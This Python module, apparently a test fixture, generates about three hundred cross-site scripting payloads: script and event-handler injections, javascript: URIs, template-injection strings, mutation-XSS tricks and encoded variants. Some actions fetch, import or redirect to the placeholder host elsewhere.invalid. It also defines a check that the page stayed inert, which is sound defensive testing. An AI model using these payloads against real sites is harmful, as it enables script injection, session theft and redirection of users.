"""Names that would do something, if a page took them for more than text."""

from __future__ import annotations

ELSEWHERE = "https://elsewhere.invalid"
_ACTS = (
    "alert(1)",
    "window.hit=1",
    f"fetch('{ELSEWHERE}/a')",
    f"import('{ELSEWHERE}/b.js')",
    f"location='{ELSEWHERE}/c'",
    "document.title='hit'",
    "confirm(2)",
    "prompt(3)",
    f"new Image().src='{ELSEWHERE}/d'",
    "eval('window.hit=2')",
)
_WAYS = (
    "<script>{act}</script>",
    '"><script>{act}</script>',
    "</title></style></textarea><script>{act}</script>",
    "<img src=x onerror={act}>",
    '\'><img src=x onerror="{act}">',
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    '<iframe srcdoc="<script>{act}</script>">',
    "<body onload={act}>",
    "<details open ontoggle={act}>",
    "<input autofocus onfocus={act}>",
    "<video><source onerror={act}></video>",
    "<a href=javascript:{act}>x</a>",
    "javascript:{act}//",
    "data:text/html,<script>{act}</script>",
    "<math><mtext></p><style><img src=x onerror={act}>",
    "<template><img src=x onerror={act}></template>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "{{{{constructor.constructor('{act}')()}}}}",
    "${{{act}}}",
    "<base href=https://elsewhere.invalid/><script src=x.js></script>{act}",
    "<link rel=stylesheet href=https://elsewhere.invalid/x.css>{act}",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.invalid'>{act}",
    "<form action=https://elsewhere.invalid><button autofocus>{act}",
    "<style>*{{background:url(https://elsewhere.invalid/x)}}</style>{act}",
    "<object data=https://elsewhere.invalid/x>{act}</object>",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "../../{act}?#",
    "\u202e{act}<script>",
    "%3Cscript%3E{act}%3C/script%3E",
)
TEXTS = tuple(way.format(act=act) for way in _WAYS for act in _ACTS)
NAMES = tuple(text for text in TEXTS if "/" not in text)  # names have no slash

# What a page says of itself, and what it says where none of them did anything.
_ELEMENTS = "img, script, iframe, video, object, base, meta, form[action], style, link, template"
INERT = f"""() => ({{
  hit: window.hit ?? null,
  made: document.querySelectorAll('body main :is({_ELEMENTS})').length,
  links: [...document.querySelectorAll("a")].map((a) => a.getAttribute("href"))
    .filter((href) => !href.startsWith("#")),
}})"""
QUIET = {"hit": None, "made": 0, "links": []}
